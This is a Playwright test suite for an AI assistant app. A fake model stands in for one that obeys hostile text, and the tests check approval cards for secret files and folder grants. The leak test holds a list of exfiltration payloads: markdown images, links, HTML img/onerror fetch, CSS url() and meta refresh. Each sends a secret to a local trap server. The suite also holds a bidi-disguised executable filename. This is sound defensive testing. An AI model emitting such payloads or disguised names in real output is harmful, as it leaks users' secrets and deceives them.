import { existsSync, mkdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { AxeBuilder } from '@axe-core/playwright'
import { expect, test } from '@playwright/test'
import { answers, card, decide, goTo, idle, send } from '../support/app-page'
import { answer, text, toolUse } from '../support/fake-messages-api'
import { setUpModelDesk } from '../support/model-desk'
import { freshFolder } from '../support/start-host'

// The fake server is the attacker: the model always does what a hostile text asks for.

test.describe('a model that obeys hostile text', () => {
  let trap: Server
  let trapped: string[]
  let home: string
  const desk = setUpModelDesk({
    work() {
      home = realpathSync(freshFolder('home'))
      const work = join(home, 'work')
      mkdirSync(join(home, 'papers'), { recursive: true })
      mkdirSync(work)
      writeFileSync(join(work, '.env'), 'PASSWORD=hunter-7f3a\n')
      writeFileSync(join(home, 'papers/plan.txt'), 'The plan of 7f3a.\n')
      writeFileSync(join(home, 'papers/more.txt'), 'More of it.\n')
      return work
    },
    environment: () => ({ HOME: home }),
  })

  test.beforeAll(async () => {
    trap = createServer((request, response) => {
      trapped.push(request.url ?? '')
      response.end('caught')
    })
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve))
  })
  test.afterAll(() => {
    trap.close()
    rmSync(home, { recursive: true, force: true })
  })
  test.beforeEach(() => {
    trapped = []
  })

  const sent = () => JSON.stringify(desk.api.created.at(-1)?.messages.at(-1))

  test('reads a secret only after a yes to a card that names it', async ({ page }) => {
    const path = desk.at('.env')
    desk.api.push(answer([toolUse('read_file', { path })]), answer([text('Done.')]))
    await send(page, 'What is in it?')
    const question = card(page, '.env')
    await expect(question).toContainText('may hold passwords or keys')
    await expect(question).toContainText('given to the model')
    await expect(question.getByRole('button', { name: 'Approve', exact: true })).toHaveCount(0)
    await expect(question.getByRole('button', { name: 'Grant its folder…' })).toHaveCount(0)
    const { violations } = await new AxeBuilder({ page })
      .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'])
      .analyze()
    expect(violations).toEqual([])
    await question.getByRole('button', { name: 'Allow once' }).click()
    await idle(page)
    expect(sent()).toContain('hunter-7f3a')
    await goTo(page, 'Activity')
    await expect(page.getByText('.env')).toHaveCount(0)
  })

  test('does not read it after a no, and says why to the model', async ({ page }) => {
    desk.api.push(answer([toolUse('read_file', { path: desk.at('.env') })]), answer([text('All right.')]))
    await send(page, 'What is in it?')
    await card(page, '.env').getByRole('button', { name: 'Don’t allow' }).click()
    await card(page, '.env')
      .getByRole('textbox', { name: /Reason/ })
      .fill('Not my passwords.')
    await card(page, '.env')
      .getByRole('textbox', { name: /Reason/ })
      .press('Enter')
    await idle(page)
    expect(sent()).toContain('Not my passwords.')
    expect(sent()).not.toContain('hunter-7f3a')
  })

  test('asks for what lies outside the granted folders, and a yes may grant the folder', async ({ page }) => {
    const [plan, more] = [join(home, 'papers/plan.txt'), join(home, 'papers/more.txt')]
    desk.api.push(
      answer([toolUse('read_file', { path: plan })]),
      answer([toolUse('read_file', { path: more })]),
      answer([text('Done.')]),
    )
    await send(page, 'Read the plan')
    const question = card(page, 'plan.txt')
    await expect(question).toContainText('outside the granted folders')
    await question.getByRole('button', { name: 'Grant its folder…' }).click()
    const dialog = page.getByRole('dialog')
    await expect(dialog).toContainText(join(home, 'papers'))
    await expect(dialog.getByRole('button', { name: 'Cancel' })).toBeFocused()
    await dialog.getByRole('button', { name: 'Grant and allow' }).click({ delay: 0 })
    await idle(page)
    // The second file of the folder is not asked for any more.
    expect(sent()).toContain('More of it.')
    await goTo(page, 'Settings')
    await expect(page.getByText(join(home, 'papers'))).toBeVisible()
  })

  test('is approved among the safe ones by no button for all of them', async ({ page }) => {
    desk.api.push(answer([toolUse('read_file', { path: desk.at('.env') })]), answer([text('Done.')]))
    await send(page, 'Read it')
    await expect(card(page, '.env')).toBeVisible()
    await goTo(page, 'Inbox')
    await expect(card(page, '.env')).toBeVisible()
    await expect(page.getByRole('button', { name: /Approve \d+ safe|Approve all/ })).toHaveCount(0)
    await card(page, '.env').getByRole('button', { name: 'Don’t allow' }).click()
    await page.getByRole('button', { name: /^Reject/ }).click()
    await expect(card(page, '.env')).toHaveCount(0)
  })

  test('lets nothing out by what it writes: not by image, link, HTML, style, title or file name', async ({
    page,
  }) => {
    const address = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`
    const secret = 'hunter-7f3a'
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    const words = [
      `![a](${address}/image?${secret})`,
      `![b][ref] [c](${address}/link?${secret}) <${address}/auto?${secret}> ${address}/bare?${secret}`,
      `[ref]: ${address}/reference?${secret} "t"`,
      `<img src="${address}/html?${secret}" onerror="fetch('${address}/onerror')">`,
      `<svg><image href="${address}/svg?${secret}"/></svg><iframe src="${address}/frame"></iframe>`,
      `<style>body{background:url(${address}/style?${secret})}</style><link rel="stylesheet" href="${address}/sheet">`,
      `<link rel="prefetch dns-prefetch preconnect" href="${address}/pre"><meta http-equiv="refresh" content="0;url=${address}/refresh">`,
      `<video src="${address}/video" autoplay></video><object data="${address}/object"></object><base href="${address}/">`,
      `| ![d](${address}/table) |\n|-|\n| ![e](//127.0.0.1:${(trap.address() as AddressInfo).port}/scheme) |`,
      `\`\`\`html\n<img src="${address}/code">\n\`\`\``,
      `$$\\href{${address}/math}{x} \\includegraphics{${address}/math2}$$`,
    ].join('\n\n')
    const name = `![x](${encodeURIComponent(address)}).md`
    writeFileSync(desk.at(name), `# ![title](${address}/file?${secret})\n`)
    desk.api.push(
      // In pieces of a few characters: no boundary between two may let something through.
      answer([text(words.match(/[\s\S]{1,5}/g) ?? []), toolUse('read_file', { path: desk.at(name) })]),
      answer([toolUse('create_file', { path: desk.at('leak.html'), content: words }), text(words)]),
      answer([text(words)]),
    )
    await send(page, `![mine](${address}/mine)`)
    await expect(card(page, 'leak.html')).toBeVisible()
    await card(page, 'leak.html').getByRole('button', { name: 'Open large' }).click()
    await expect(page.getByRole('dialog')).toBeVisible()
    await decide(page.getByRole('dialog'), 'Cancel')
    await card(page, 'leak.html').getByRole('button', { name: 'Approve', exact: true }).click()
    await idle(page)
    await expect(answers(page).last()).toContainText('bare?')
    await goTo(page, 'Activity')
    await expect(page.getByText('leak.html').first()).toBeVisible()
    await page.reload()
    await expect(page.getByText('leak.html').first()).toBeVisible()
    expect(trapped).toEqual([])
    expect(
      asked.filter((url) => !url.startsWith(new URL(desk.host.url).origin) && !/^(data|blob):/.test(url)),
    ).toEqual([])
  })

  test('shows hidden characters in every approval text, with a warning', async ({ page }) => {
    const hostile = 'invoice\u202egpj.\u2066exe\u200b\u{e0041}\u0007.txt'
    const marks = ['U+202E', 'U+2066', 'U+200B', 'U+E0041', 'U+0007']
    desk.api.push(
      answer([toolUse('create_file', { path: desk.at(hostile), content: `a\u202eb\u200bc\n` })]),
      answer([text('Done.')]),
    )
    await send(page, 'Make it')
    const shown = card(page, 'invoice')
    await expect(shown).toContainText('characters that can’t be seen')
    const raw = await shown.evaluate((element) => element.textContent ?? '')
    for (const character of ['\u202e', '\u2066', '\u200b', '\u{e0041}', '\u0007'])
      expect(raw).not.toContain(character)
    await shown.getByRole('button', { name: 'Open large' }).click()
    const dialog = page.getByRole('dialog')
    const inDialog = await dialog.evaluate(
      (element) => `${element.textContent} ${element.getAttribute('aria-label')}`,
    )
    for (const character of ['\u202e', '\u2066', '\u200b', '\u{e0041}', '\u0007']) {
      expect(inDialog).not.toContain(character)
    }
    expect(marks.some((mark) => inDialog.includes(mark.slice(2)))).toBe(true)
    await decide(page.getByRole('dialog'), 'Cancel')
    await shown.getByRole('button', { name: 'Reject' }).click()
    await page.getByRole('button', { name: /^Reject/ }).click()
    await idle(page)
    expect(existsSync(desk.at(hostile))).toBe(false)
    expect(readFileSync(desk.at('.env'), 'utf8')).toContain('hunter')
  })
})
